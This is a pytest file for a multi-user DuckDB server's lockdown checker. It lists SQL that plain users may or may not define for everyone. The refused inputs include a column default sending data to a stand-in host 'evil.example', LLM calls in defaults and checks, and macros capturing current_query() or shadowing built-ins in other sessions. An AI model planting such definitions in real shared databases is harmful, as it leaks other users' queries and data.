"""What a plain user may define for all, and what only for themselves."""

from __future__ import annotations

import pytest

from relserve.errors import ForbiddenError
from relserve.server.users.lockdown import check_allowed, open_locked
from relserve.server.users.users import User

ANN, ROOT = User("ann"), User("root", is_admin=True)

ALLOWED = """
CREATE TABLE x (id INT PRIMARY KEY, made TIMESTAMP DEFAULT now(), n INT DEFAULT length('x') CHECK (n > 0))
CREATE TABLE x (a INT, twice INT GENERATED ALWAYS AS (2 * a) VIRTUAL)
CREATE TABLE x AS SELECT current_query() AS q, current_setting('TimeZone') AS z
CREATE TABLE x AS (SELECT getvariable('a') AS v)
CREATE TABLE x (current_setting VARCHAR, getvariable INT)
CREATE VIEW x AS SELECT 'current_query()' AS current_query FROM t -- getvariable('a')
CREATE VIEW x AS SELECT count(*), sum(a) FROM t
CREATE MACRO total(x) AS sum(x)
CREATE MACRO shop_lower(x) AS lower(x)
CREATE TEMP MACRO sum(x) AS 42
CREATE OR REPLACE TEMPORARY VIEW duckdb_tables AS SELECT current_query() AS q
CREATE TEMP TABLE x (q VARCHAR DEFAULT current_query())
CREATE TABLE tables (a INT)
CREATE TYPE mood AS ENUM ('sad', 'ok')
CREATE SCHEMA sales
CREATE SEQUENCE sum START 5
CREATE INDEX sum ON t (a)
ALTER TABLE t ADD COLUMN b INT DEFAULT 3
ALTER TABLE t RENAME TO items
ALTER TABLE t RENAME COLUMN a TO sum
CREATE TABLE "copy" (a INT)
CREATE TABLE x (a INT REFERENCES k (id), b INT, FOREIGN KEY (b) REFERENCES main."k"(id), UNIQUE (a, b))
CREATE TABLE x (a DECIMAL(10, 2), b VARCHAR(20), c CHARACTER VARYING(3), d STRUCT(a INT), e MAP(INT, INT))
CREATE TABLE x (a INT CHECK (a IN (1, 2) AND NOT (a > 5) OR (a BETWEEN (1) AND (2))))
CREATE TABLE x (a VARCHAR CHECK (a LIKE ('x') AND a SIMILAR TO ('x')), b INT DEFAULT ifnull(NULL, 3))
CREATE TABLE x (a INT DEFAULT try(1), b INT DEFAULT CASE WHEN (true) THEN (1) ELSE (2) END)
CREATE TABLE x (a VARCHAR DEFAULT substring('ab' FROM 1 FOR 1), b INT[] DEFAULT [1])
CREATE TABLE x (a VARCHAR, llm VARCHAR AS (a.lower().upper()), "text2sql" VARCHAR DEFAULT 'llm(1)') -- llm()
CREATE TABLE x AS SELECT twice(3) AS a
CREATE TEMP TABLE x (a INT DEFAULT twice(1))
CREATE INDEX i ON main.t USING art (a)
CREATE VIEW x AS SELECT twice(a) FROM t
CREATE MACRO "my own"(x) AS twice(x)
CREATE TEMP MACRO "@@@"(x, y) AS 42
ALTER TABLE t ALTER a TYPE INT USING twice(a)
""".strip().splitlines()  # fmt: skip


@pytest.fixture
def con():
    with open_locked(":memory:") as con:
        con.execute("CREATE TABLE t AS SELECT range AS a FROM range(10)")
        con.execute("CREATE MACRO twice(x) AS 2 * x; CREATE TABLE k (id INT PRIMARY KEY)")
        yield con


@pytest.mark.cells(6)
@pytest.mark.parametrize("text", ALLOWED)
def test_a_plain_user_may_define(con, text):
    check_allowed(con, text, ANN)
    con.execute(text)


@pytest.mark.cells(2)
@pytest.mark.parametrize(
    "text",
    [
        "CREATE TABLE x (a INT, q VARCHAR DEFAULT current_query())", "CREATE MACRO sum(x) AS 42",
        "CREATE VIEW duckdb_tables AS SELECT 1", "CREATE VIEW x AS FROM duckdb_variables()",
    ],
)  # fmt: skip
def test_an_admin_may_define_for_all(con, text):
    check_allowed(con, text, ROOT)
    with pytest.raises(ForbiddenError):
        check_allowed(con, text, ANN)


@pytest.mark.parametrize(
    "text",
    [
        "CREATE VIEW x AS SELECT asked() AS q",
        "CREATE MACRO other() AS asked()",
        "CREATE MACRO third() AS main.by_another()",
        "CREATE VIEW x AS SELECT forms(1) AS q",
        "CREATE VIEW x AS SELECT over_odd() AS q",
        "CREATE VIEW x AS SELECT 1 AS q FROM t JOIN k ON asked() = 'a'",
    ],
)
def test_a_macro_of_an_admins_that_tells_of_a_session_is_one_step_more(con, text):
    con.execute("CREATE MACRO asked() AS current_query(); CREATE MACRO by_another() AS upper(asked())")
    con.execute("CREATE MACRO forms(a) AS concat(a, current_query()), (a, b) AS a + b")
    con.execute('CREATE MACRO "an odd one"() AS asked(); CREATE MACRO over_odd() AS "an odd one"()')
    told = r"(asked|by_another|forms|over_odd) in a (view|macro) that others use"
    with pytest.raises(ForbiddenError, match=told):
        check_allowed(con, text, ANN)


def test_what_another_defined_for_all_ran_in_everybodys_session(con):
    """What is refused, DuckDB does."""
    con.execute("CREATE MACRO main.lower(x) AS 'mine'")
    con.execute("CREATE TABLE x (a INT, q VARCHAR DEFAULT current_query())")
    with con.cursor() as other:
        assert other.execute("SELECT lower('A')").fetchall() == [("mine",)]
        other.execute("INSERT INTO x (a) VALUES (41 + 1)")
    assert con.execute("FROM x").fetchall() == [(42, "INSERT INTO x (a) VALUES (41 + 1)")]


def test_nobody_takes_the_database_from_the_others(con):
    for user in (ANN, ROOT):
        with pytest.raises(ForbiddenError, match="stop the server"):
            check_allowed(con, "ALTER DATABASE memory SET ALIAS TO other", user)


@pytest.mark.cells(4)
@pytest.mark.parametrize(
    "text",
    [
        "CREATE TABLE x (a VARCHAR, q VARCHAR DEFAULT llm('a', model := 'http://evil.example/v1'))",
        "CREATE TABLE x (a VARCHAR CHECK (llm_filter('Is {}', a)))",
        """CREATE TABLE x (a VARCHAR, q VARCHAR GENERATED ALWAYS AS ("LLM" /* */ ('Of {}', a)) VIRTUAL)""",
        "CREATE TABLE x (a VARCHAR, q VARCHAR AS (('Of {}').llm(a)))",
        "CREATE TABLE x (a VARCHAR DEFAULT upper(text2sql_query('How many?')))",
        "CREATE OR REPLACE TABLE t (a VARCHAR CHECK (llm_agg_list('Of {}', [a]) <> ''))",
        "ALTER TABLE t ADD COLUMN q VARCHAR DEFAULT llm('a')",
        "ALTER TABLE t ALTER a SET DEFAULT length(temp.main.llm('a'))",
        "CREATE INDEX i ON t ((llm_int('Of {}', a)))",
    ],
)
def test_no_column_asks_a_model_for_those_who_write_its_rows(con, text):
    with pytest.raises(ForbiddenError, match=r"would ask a model .* call it in a view, or in the statement"):
        check_allowed(con, text, ANN)
    check_allowed(con, text, ROOT)


@pytest.mark.cells(3)
@pytest.mark.parametrize(
    "text",
    [
        "CREATE TABLE x (a INT DEFAULT twice(1))",
        "CREATE TABLE x (a INT, b INT CHECK (main.twice(b) > 0))",
        'CREATE TABLE x (a INT, b INT AS ("Twice"(a)))',
        "CREATE TABLE x (a INT DEFAULT references_(1))",
        "CREATE TABLE x (a INT DEFAULT unheard_of('x'))",
        "CREATE INDEX i ON t (twice(a))",
        "ALTER TABLE t ADD COLUMN b INT DEFAULT (1).twice()",
    ],
)
def test_a_columns_macro_could_come_to_ask_anything(con, text):
    """It may be replaced before the table is there, in the same transaction, or be TEMP until then."""
    with pytest.raises(ForbiddenError, match="what a macro asks can change: write what it stands for"):
        check_allowed(con, text, ANN)
    check_allowed(con, text, ROOT)


@pytest.mark.parametrize("name", ["@@@", "<=>", "||", "tinyint", "values", "key", "like", "list_value"])
def test_no_macro_is_called_by_a_sign_or_a_word_of_columns(con, name):
    with pytest.raises(ForbiddenError, match="TEMP, for you alone"):
        check_allowed(con, f'CREATE MACRO "{name}"(x, y) AS 42', ANN)
    check_allowed(con, f'CREATE TEMP MACRO "{name}"(x, y) AS 42', ANN)
